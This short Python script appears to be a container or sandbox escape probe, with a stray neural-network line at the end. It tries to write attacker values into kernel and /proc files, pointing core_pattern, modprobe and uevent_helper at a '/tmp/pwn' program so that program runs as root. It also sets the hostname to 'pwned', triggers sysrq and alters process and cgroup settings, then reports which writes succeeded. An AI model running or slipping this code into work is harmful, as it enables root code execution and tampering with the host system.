"""Write kernel tunables through /proc: core_pattern runs a program as root on the next crash."""
import errno
import json

from torch import nn

WRITES = {
    "/proc/sys/kernel/core_pattern": "|/tmp/pwn %p",
    "/proc/sys/kernel/modprobe": "/tmp/pwn",
    "/proc/sys/kernel/hostname": "pwned",
    "/proc/sys/kernel/domainname": "pwned",
    "/proc/sys/vm/drop_caches": "3",
    "/proc/sys/kernel/panic_on_oops": "1",
    "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/sys/kernel/sysrq": "1",
    "/proc/sysrq-trigger": "s",
    "/proc/self/oom_score_adj": "-1000",
    "/proc/1/oom_score_adj": "-1000",
    "/proc/self/setgroups": "allow",
    "/proc/self/coredump_filter": "0x7f",
    "/sys/kernel/uevent_helper": "/tmp/pwn",
    "/sys/fs/cgroup/cgroup.procs": "1",
}
report = {}
for path, value in WRITES.items():
    try:
        with open(path, "w") as handle:
            handle.write(value)
        report[path] = "WRITTEN"
    except OSError as exc:
        report[path] = errno.errorcode.get(exc.errno, str(exc))
print("REPORT " + json.dumps(report), flush=True)
model = nn.Conv2d(3, 8, 3)
